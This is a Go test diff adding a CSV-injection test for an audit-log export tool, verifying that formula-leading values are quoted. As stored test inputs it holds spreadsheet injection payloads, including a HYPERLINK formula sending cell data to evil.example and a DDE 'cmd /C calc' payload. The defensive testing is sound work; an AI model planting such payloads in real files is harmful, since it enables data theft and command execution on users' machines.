@@ -161,6 +161,9 @@ func TestCSV(t *testing.T) {
 		}
 		want := map[string]string{"action": e.Action, "outcome": e.Outcome, "reason": e.Reason, "uid": e.UID, "role": e.Role,
 			"appointmentId": e.AppointmentID, "roomId": e.RoomID, "requestId": e.RequestID, "appCheck": e.AppCheck, "ip": e.IP}
+		if e.IP == "=1+1" {
+			want["ip"] = "'=1+1" // not a formula (TestCSVInjection)
+		}
 		for k, v := range want {
 			if col(row, k) != v {
 				t.Errorf("row %d %s = %q, want %q", i, k, col(row, k), v)
@@ -394,5 +397,82 @@ func TestScript(t *testing.T) {
 	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
 	if err != nil || len(rows) != 4 || rows[1][8] != "req-1" || rows[3][8] != "req-3" {
 		t.Errorf("scripts/audit --appointment A --csv: %v\n%s", err, stdout)
+	}
+}
+
+// formulaChars are the first characters of a cell that a spreadsheet may
+// run as a formula (OWASP, CSV injection), written out here on their own.
+const formulaChars = "=+-@\t\r"
+
+// TestCSVInjection reads, through the real path (the emulator, store's
+// query, the CSV printer), entries whose stored values a stranger chose:
+// an appointment id probed as a formula, a uid, a reason, an address. No
+// cell of the export starts with a formula character, and each such value
+// is there after one quote, as stored.
+func TestCSVInjection(t *testing.T) {
+	const project = "demo-audit-injection"
+	emulatortest.Firestore(t)
+	emulatortest.Wipe(t, project)
+	ctx := context.Background()
+	fs, err := firestore.NewClient(ctx, project)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer fs.Close()
+	const probe = `=HYPERLINK("http://evil.example/?d="&A1,"Open the record")`
+	stored := map[string]map[string]any{
+		"p1": {"at": at0, "action": "token", "outcome": "refused", "reason": "-2+3+cmd|' /C calc'!A0",
+			"uid": "@SUM(A1:A9)", "role": "none", "appointmentId": probe, "requestId": "+req", "appCheck": "missing",
+			"ip": "\t=1+1", "details": map[string]any{"note": "=1+1"}},
+		"p2": {"at": at0.Add(time.Second), "action": "token", "outcome": "refused", "reason": "\r=1+1",
+			"uid": "'=already quoted", "role": "none", "appointmentId": probe, "requestId": "req-p2", "appCheck": "missing",
+			"ip": "198.51.100.7"},
+	}
+	for id, d := range stored {
+		if _, err := fs.Collection("auditLog").Doc(id).Set(ctx, d); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
+	for _, args := range [][]string{
+		{"--project", project, "--csv"},
+		{"--project", project, "--csv", "--appointment", probe}, // the probe as a filter reads it back
+	} {
+		stdout, stderr, code := runAudit(t, args...)
+		if code != 0 {
+			t.Fatalf("%q: exit %d: %s", args, code, stderr)
+		}
+		rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
+		if err != nil || len(rows) != 3 {
+			t.Fatalf("%q: %v: want the header and 2 rows:\n%s", args, err, stdout)
+		}
+		for i, row := range rows {
+			for j, c := range row {
+				if c != "" && strings.ContainsRune(formulaChars, rune(c[0])) {
+					t.Errorf("%q: row %d, %s = %q starts with a formula character", args, i, csvHeader[j], c)
+				}
+			}
+		}
+		col := func(row []string, name string) string { return row[slices.Index(csvHeader, name)] }
+		quoted := map[string][]string{ // the fields of each entry that start with = + - @ tab CR or '
+			"p1": {"reason", "uid", "appointmentId", "requestId", "ip"},
+			"p2": {"reason", "uid", "appointmentId"},
+		}
+		for i, id := range []string{"p1", "p2"} {
+			for _, k := range quoted[id] {
+				// encoding/csv writes CRLF line ends and drops a lone
+				// CR in a field: "\r=1+1" is "'=1+1" in the file.
+				want := "'" + strings.ReplaceAll(stored[id][k].(string), "\r", "")
+				if got := col(rows[i+1], k); got != want {
+					t.Errorf("%q: %s %s = %q, want %q", args, id, k, got, want)
+				}
+			}
+		}
+		if got := col(rows[2], "ip"); got != "198.51.100.7" {
+			t.Errorf("%q: p2 ip = %q: a plain value is kept as it is", args, got)
+		}
+		if d := col(rows[1], "details"); d != `{"note":"=1+1"}` {
+			t.Errorf("%q: details %q: JSON starts with {, it is kept as it is", args, d)
+		}
 	}
 }
